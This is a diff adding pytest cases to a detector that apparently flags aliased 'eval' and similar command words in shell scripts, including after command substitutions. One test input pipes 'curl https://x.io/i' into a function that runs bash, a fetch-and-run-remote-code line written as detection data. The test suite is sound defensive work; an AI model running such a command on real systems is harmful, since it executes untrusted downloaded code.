@@ -245,3 +245,41 @@ def test_aliases_are_rewritten_within_a_budget() -> None:
         view.count(b"x" * 2000) == 1 + held
     )  # the definition, and the uses four times the text and 1 MiB hold
     assert view.endswith(b"\na\n")  # past it: as written
+
+
+@pytest.mark.parametrize(
+    ("source", "line"),
+    [
+        ('alias e=eval\nX=$(a b) e "$x"\n', 2),
+        ('alias e=eval\nX="$(a b)" e "$x"\n', 2),
+        ('alias e=eval\nX=$(a $(b c) d) Y=$(f) e "$x"\n', 2),
+        ("alias e=eval\nX=$(a) e; Y=1\n", 2),
+        ('alias e=eval\necho $(a; e "$x")\n', 2),
+        ('alias e=eval\necho "$(X=$(a b) e "$x")"\n', 2),
+        ("f() { bash; }\ncurl https://x.io/i | X=$(a b) f\n", 2),
+    ],
+)
+def test_a_command_word_after_command_substitutions(repo: GitRepo, source: str, line: int) -> None:
+    assert [found_line for found_line, _ in _found(repo, "s.sh", source)] == [line]
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        'alias e=eval\necho $(a) e "$x"\n',
+        "alias e=eval\necho $(a b) $(c) e\n",
+        "alias e=eval\nX=$(a e) true\n",
+    ],
+)
+def test_a_word_after_a_substitution_that_is_an_argument(repo: GitRepo, source: str) -> None:
+    assert _found(repo, "s.sh", source) == []
+
+
+def test_past_the_substitutions_read_out_of_a_word_is_taken_as_a_command(repo: GitRepo) -> None:
+    source = "alias e=eval\n" + "X=$(a) " * 70 + 'e "$x"\n'
+    assert [found_line for found_line, _ in _found(repo, "s.sh", source)] == [2]
+
+
+def test_a_command_read_past_many_substitutions_keeps_its_words(repo: GitRepo) -> None:
+    source = "alias e=eval\ne " + "$(a) " * 70 + "\n"
+    assert [found_line for found_line, _ in _found(repo, "s.sh", source)] == [2]
